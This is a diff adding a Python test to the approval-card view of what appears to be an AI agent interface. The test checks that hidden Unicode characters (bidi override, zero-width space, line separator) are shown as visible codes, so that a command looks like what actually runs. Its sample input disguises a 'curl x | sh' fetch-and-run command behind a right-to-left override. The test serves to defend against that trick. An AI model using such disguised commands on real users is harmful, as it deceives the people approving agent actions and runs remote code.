@@ -204,3 +204,21 @@ def test_tool_rows_and_paragraphs_interleave_in_the_order_they_happened():
     assert all(isinstance(view.rows[c], ToolRow) for c in ("c1", "c2", "c3"))
     assert view.answer.markdown == "Let me look.\n\nFound **a.py**; reading it.\n\nDone."
     assert view.answer.value.index("Let me look") < view.answer.value.index("<strong>a.py</strong>")
+
+
+def test_approval_card_shows_hidden_characters_and_wraps_long_lines():
+    """Finding 12 of "Trust": a bidi override, a zero-width space or a line separator cannot make a
+    command look different from what runs."""
+    view = TurnView(turn_id=T, decide=lambda call_id, decision: None)
+    command = "echo safe \u202e# txt.exe\u200b && curl x\u2028| sh " + "y" * 300
+    feed(view, ev.ToolCall(name="bash", call_id="c1", arguments={"command": command}, turn_id=T),
+         ev.ApprovalRequest(name="bash\u202e", call_id="c1", arguments={"command": command}, turn_id=T))
+    card = view.cards["c1"]
+    for raw, code in (("\u202e", "U+202E"), ("\u200b", "U+200B"), ("\u2028", "U+2028")):
+        assert raw not in card.body.value and f"&lt;{code}&gt;" in card.body.value
+    assert "\u202e" not in card.title.value and "&lt;U+202E&gt;" in card.title.value
+    assert "white-space:pre-wrap" in card.body.value and "overflow-wrap:anywhere" in card.body.value
+    diff = "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\u202e\n"
+    feed(view, ev.ToolCall(name="edit_file", call_id="c2", arguments={"path": "x"}, turn_id=T),
+         ev.ApprovalRequest(name="edit_file", call_id="c2", arguments={"path": "x"}, diff=diff, turn_id=T))
+    assert "\u202e" not in view.cards["c2"].body.value and "&lt;U+202E&gt;" in view.cards["c2"].body.value
